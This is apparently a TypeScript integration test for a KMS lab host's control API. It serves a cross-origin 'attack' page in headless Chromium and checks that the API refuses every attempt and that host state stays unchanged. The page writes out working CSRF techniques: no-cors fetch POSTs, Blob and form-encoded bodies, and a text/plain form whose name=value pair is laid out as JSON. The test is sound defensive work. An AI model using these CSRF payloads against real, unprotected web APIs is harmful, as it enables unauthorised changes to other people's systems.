/**
 * The control API against a real browser: a page from another origin (a second loopback HTTP server,
 * ephemeral port) tries what issue 13 found working — `fetch(no-cors)` POSTs to /reset, /clock/advance
 * and /faults with text/plain, form and JSON-typed Blob bodies, a JSON POST that needs a preflight, an
 * HTML form posted into an iframe, and reads of /clients — against a host started as `serve
 * --scenario` starts it (so /faults exists). Afterwards the host's clock, pools, history, counters and
 * fault rules are unchanged, read back through the API; the host is seen to have received (and
 * refused) the requests, so "unchanged" is not because nothing arrived. The page reports to its own
 * server when it is done: no test waits on the wall clock.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { scenarioServeConfig, startServeLab } from '../../src/cli/scenario.js';
import { buildRuntimeOptions } from '../../src/cli/serve.js';
import type { ServeConfig } from '../../src/cli/serve-config.js';
import type { LabHost } from '../../src/harness/lab-host.js';
import { loadScenario } from '../../src/harness/scenario.js';
import { type Browser, launchChromium } from '../helpers/chromium.js';

const SCENARIO = new URL('../../fixtures/scenarios/host-outage.yaml', import.meta.url).pathname;

/** What the control API was asked, as the host saw it. */
interface Seen {
  method: string;
  path: string;
  status: number;
  contentType: string | undefined;
  origin: string | undefined;
  corsHeaders: string[];
}

let lab: LabHost;
let control: string;
let attacker: http.Server;
let attackerOrigin: string;
let browser: Browser | undefined;
const seen: Seen[] = [];
let report: (body: string) => void;
const reported = new Promise<string>((resolve) => {
  report = resolve;
});

/** The bodies that would change the host if they were accepted (checked at the end of the test). */
const RESET = '{"counters":true}';
const ADVANCE = '{"days":400}';
const FAULTS = '[{"name":"refuse all","action":{"type":"refuse-connection"}}]';

/** The attacking page: every attempt, then one POST of what it could see to its own origin. */
function attackPage(target: string): string {
  const script = `
const target = ${JSON.stringify(target)};
const out = {};
async function attempt(name, path, init) {
  try {
    const r = await fetch(target + path, init);
    let text = null;
    try { text = await r.text(); } catch (e) { text = 'unreadable: ' + e.name; }
    out[name] = { type: r.type, status: r.status, text };
  } catch (e) {
    out[name] = { error: e.name };
  }
}
function postForm(path, name, value) {
  return new Promise((resolve) => {
    const sink = document.createElement('iframe');
    sink.name = 'sink-' + path.replace(/\\W/g, '');
    document.body.append(sink);
    const form = document.createElement('form');
    form.method = 'POST';
    form.enctype = 'text/plain';
    form.action = target + path;
    form.target = sink.name;
    const input = document.createElement('input');
    input.name = name;
    input.value = value;
    form.append(input);
    document.body.append(form);
    sink.addEventListener('load', () => resolve(), { once: true });
    form.submit();
  });
}
(async () => {
  try {
    const noCors = (body) => ({ method: 'POST', mode: 'no-cors', body });
    await attempt('reset', '/reset', noCors(${JSON.stringify(RESET)}));
    await attempt('advance', '/clock/advance', noCors(${JSON.stringify(ADVANCE)}));
    await attempt('faults', '/faults', noCors(${JSON.stringify(FAULTS)}));
    await attempt('advanceForm', '/clock/advance', noCors(new URLSearchParams({ days: '400' })));
    await attempt('advanceBlob', '/clock/advance',
      noCors(new Blob([${JSON.stringify(ADVANCE)}], { type: 'application/json' })));
    await attempt('faultsPreflight', '/faults', {
      method: 'POST', headers: { 'content-type': 'application/json' }, body: ${JSON.stringify(FAULTS)},
    });
    // The classic CSRF form: text/plain, its name=value pair laid out as JSON.
    await postForm('/clock/advance', '{"days":400,"x":"', '"}');
    await attempt('clients', '/clients', {});
    await attempt('clientsNoCors', '/clients', { mode: 'no-cors' });
  } catch (e) {
    out.scriptError = String(e);
  }
  await fetch('/done', { method: 'POST', body: JSON.stringify(out) });
  document.title = 'done';
})();
`;
  return `<!doctype html><html><head><meta charset="utf-8"><title>attack</title></head><body><script>${script}</script></body></html>`;
}

async function api(path: string, init: RequestInit = {}) {
  const r = await fetch(`${control}${path}`, init);
  return { status: r.status, json: (await r.json()) as Record<string, unknown> };
}

/** The host state a web page must not be able to move, read through the control API. */
async function state() {
  const status = (await api('/status')).json as {
    time: string;
    pools: { name: string; count: number }[];
    requests: unknown;
    requestCounters: unknown;
  };
  return {
    time: status.time,
    pools: status.pools.map((p) => [p.name, p.count]),
    requests: status.requests,
    requestCounters: status.requestCounters,
    clients: (await api('/clients')).json['clients'],
    history: ((await api('/history')).json['records'] as unknown[]).length,
    faults: (await api('/faults')).json['faults'],
  };
}

beforeAll(async () => {
  // As `kmslab serve --scenario host-outage.yaml --store memory --control 127.0.0.1:0` starts it.
  const scenario = await loadScenario(SCENARIO);
  const config = {
    ...scenarioServeConfig(scenario),
    store: 'memory',
    listen: ['127.0.0.1:0'],
    control: '127.0.0.1:0',
  } as ServeConfig;
  lab = await startServeLab(buildRuntimeOptions(config), { scenario });
  const c = lab.runtime.control!;
  control = `http://127.0.0.1:${c.address.port}`;
  c.server.on('request', (req: http.IncomingMessage, res: http.ServerResponse) => {
    res.on('finish', () =>
      seen.push({
        method: req.method ?? '',
        path: req.url ?? '',
        status: res.statusCode,
        contentType: req.headers['content-type'],
        origin: req.headers.origin,
        corsHeaders: res.getHeaderNames().filter((h) => h.startsWith('access-control-')),
      }),
    );
  });
  for (const workstation of ['SRV-1', 'SRV-2', 'SRV-3']) {
    const [r] = await lab.activate({ product: 'Windows Server 2022 Standard', workstation });
    expect(r?.error ?? null).toBeNull();
  }

  attacker = http.createServer((req, res) => {
    if (req.method === 'GET' && req.url === '/') {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(attackPage(control));
      return;
    }
    if (req.method === 'POST' && req.url === '/done') {
      const chunks: Buffer[] = [];
      req.on('data', (d: Buffer) => chunks.push(d));
      req.on('end', () => {
        res.end('ok');
        report(Buffer.concat(chunks).toString('utf8'));
      });
      return;
    }
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
}, 30_000);

afterAll(async () => {
  await browser?.close();
  attacker?.closeAllConnections();
  await new Promise((r) => (attacker ? attacker.close(r) : r(undefined)));
  await lab?.close();
});

describe('a page of another origin against the control API (headless Chromium)', () => {
  it('changes nothing and reads nothing', async () => {
    const before = await state();
    expect(before.pools).toContainEqual(['Windows', 3]);
    expect(before.faults).toHaveLength(1);
    const mark = seen.length;

    browser = await launchChromium();
    const errors: string[] = [];
    browser.page.on('pageerror', (e) => errors.push(e.message));
    await browser.page.goto(`${attackerOrigin}/`);
    // biome-ignore lint/suspicious/noExplicitAny: the page's report, checked field by field below
    const page: Record<string, any> = JSON.parse(await reported);
    expect(errors).toEqual([]);
    expect(page['scriptError']).toBeUndefined();

    // Nothing moved.
    expect(await state()).toEqual(before);

    // The host did receive the page's requests, and refused every mutation before reading its body.
    const fromPage = seen.slice(mark).filter((s) => s.origin === attackerOrigin || s.method === 'OPTIONS');
    const mutations = fromPage.filter((s) => s.method === 'POST');
    const paths = new Set(mutations.map((s) => s.path));
    expect(paths).toEqual(new Set(['/reset', '/clock/advance', '/faults']));
    expect(mutations.length).toBeGreaterThanOrEqual(6);
    for (const m of mutations) {
      expect([403, 415], `${m.method} ${m.path} (${m.contentType})`).toContain(m.status);
      // A browser never sends a JSON body cross-origin without the preflight the API refuses.
      expect(m.contentType ?? '').not.toMatch(/^application\/json/);
    }
    // The JSON POST got its preflight, which is refused, so the POST itself never came.
    expect(fromPage).toContainEqual(
      expect.objectContaining({ method: 'OPTIONS', path: '/faults', status: 405 }),
    );
    expect(page['faultsPreflight']).toEqual({ error: 'TypeError' });
    // No answer carried a CORS header.
    expect(seen.slice(mark).flatMap((s) => s.corsHeaders)).toEqual([]);

    // Reads: /clients was answered (a GET from a loopback Host is allowed), but the page could not see it.
    expect(fromPage).toContainEqual(
      expect.objectContaining({ method: 'GET', path: '/clients', status: 200 }),
    );
    expect(page['clients']).toEqual({ error: 'TypeError' });
    // Not even an opaque response: Cross-Origin-Resource-Policy: same-origin keeps it out of the page.
    expect(page['clientsNoCors']).toEqual({ error: 'TypeError' });
    for (const k of ['reset', 'advance', 'faults', 'advanceForm', 'advanceBlob'])
      expect(page[k], k).toEqual({ error: 'TypeError' });

    // The same bodies from a same-origin JSON client do change the host: the test would see an attack
    // that got through.
    const json = { method: 'POST', headers: { 'content-type': 'application/json' } };
    expect((await api('/faults', { ...json, body: FAULTS })).status).toBe(200);
    expect((await api('/clock/advance', { ...json, body: ADVANCE })).status).toBe(200);
    expect((await api('/reset', { ...json, body: RESET })).status).toBe(200);
    const after = await state();
    expect(after.time).not.toBe(before.time);
    expect(after.faults).not.toEqual(before.faults);
    expect(after.clients).toEqual([]);
    expect(after.requestCounters).not.toEqual(before.requestCounters);
  }, 60_000);
});
